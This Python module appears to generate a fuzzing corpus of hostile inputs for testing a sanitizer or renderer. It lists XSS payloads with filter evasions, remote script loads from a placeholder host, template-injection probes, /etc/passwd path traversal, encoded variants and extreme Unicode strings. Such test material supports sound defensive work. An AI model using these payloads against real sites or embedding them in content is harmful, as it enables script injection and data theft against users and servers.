"""Texts of an enemy: markup, scripts, addresses, templates, odd Unicode, long words."""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script\n>{run}</script\n>",
    "<script src=//x.example/a.js></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x OnErRoR={run}//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror={run}></style>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} id=z>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//x.example/a.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><script>{run}</script></xmp>",
    "<textarea></textarea><script>{run}</script>",
    "<!--><script>{run}</script-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<table><td><script>{run}</script>",
)
_BREAKS = (
    "",
    "\"'>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</p></article></main></body></html>",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "&#106;avascript:{run}",
    "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>",
    "vbscript:{run}",
    "//x.example/a",
    "\\\\x.example\\a",
    "https://x.example/a.png",
    "blob:https://x.example/1",
    "file:///etc/passwd",
    "../../../../etc/passwd",
)
_MARKDOWN = (
    "[x]({to})",
    "![x]({to})",
    "<{to}>",
    '[x]({to} "t\\"><img src=x onerror=alert(1)>")',
    "[![x]({to})]({to})",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# x",
    "{{ frame.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%(name)s {name} {0} %s",
    "[[${x}]]",
    "{{constructor.constructor('alert(1)')()}}",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    '" style="position:fixed;inset:0',
    '"><svg onload=alert(1)>',
    '" dir="rtl" lang="\'',
    "' class='notice",
    '" http-equiv="refresh" content="0;url=//x.example',
)
_UNICODE = (
    "\u202egnp.x\u202c \u202d\u2066\u2067\u2068",
    "\u2067\u202e" * 40,
    "e" + "\u0301" * 300,
    "\u0fd5" * 50 + "\u0e47" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 30,
    "\U000e0041\U000e0042\u200b\u2060\ufeff",
    "\ufdd0\ufffe\U0001ffff",
    "\u2028alert(1)\u2029",
    "＜script＞alert(1)＜/script＞",
    "\u1160\u3164\u115f",
    "ﷺ" * 60,
    "\x1b[31m\x07\x08\x7f\x85\x9b",
    "\ud7ff\ue000\U0010fffd",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;&#x3c;&LT",
    "&amp;amp; &nbsp; &zwj; &#0; &#x110000; &#xd800;",
)
_LONG = (
    "W" * 700,
    "ы" * 700,
    "क" * 700,
    "ﻻ" * 700,
    "漢" * 700,
    "https://x.example/" + "a" * 700,
    "a-" * 400,
    "_" * 700,
    "1" * 700,
    "\u00a0x" * 400,
)


def corpus() -> list[str]:
    """All of them, each once: more than two hundred."""
    found = [before + tag for before, tag in product(_BREAKS[:4], _TAGS)]
    found += [before + _TAGS[0] for before in _BREAKS[4:]]
    found += [form.replace("{to}", to) for form, to in product(_MARKDOWN, _ADDRESSES)]
    found += [*_ADDRESSES, *_TEMPLATES, *_ATTRIBUTES, *_UNICODE, *_LONG]
    return list(
        dict.fromkeys(
            text.replace("{run}", _RUN).replace("{{display:none}}", "{display:none}") for text in found
        )
    )
